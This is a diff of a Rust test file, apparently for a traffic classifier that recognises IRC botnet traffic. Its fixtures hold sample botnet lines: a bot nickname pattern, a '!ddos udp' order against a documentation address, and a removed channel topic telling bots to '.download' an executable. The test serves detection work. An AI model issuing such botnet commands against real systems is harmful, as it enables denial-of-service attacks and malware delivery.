@@ -124,9 +124,7 @@ fn what_a_program_says_of_itself_within_a_protocol_is_told_once() {
     let bot = b"NICK [NLD|W10|X64]8f2a\r\nUSER x 0 * :x\r\n";
     assert_eq!(said(bot, welcome, b"JOIN #x\r\n"), (vec![(RawContent::IrcBot, true)], Some("irc")));
     let order = b":h!h@h PRIVMSG #x :!ddos udp 192.0.2.7 80 60\r\n";
-    assert_eq!(said(person, order, b"PONG x\r\n"), (vec![(RawContent::IrcBot, false)], Some("irc")));
-    let topic = b":srv 332 jan #x :.download http://192.0.2.7/a.exe\r\n";
-    assert_eq!(said(person, topic, b"PONG x\r\n"), (vec![(RawContent::IrcBot, false)], Some("irc")));
+    assert_eq!(said(person, order, b"PONG x\r\n"), (vec![], Some("irc")), "anybody can say so in a channel");
 
     let websocket = |protocol: &str| {
         format!("GET /x HTTP/1.1\r\nHost: a.nl\r\nUpgrade: websocket\r\nSec-WebSocket-Protocol: {protocol}\r\n\r\n")
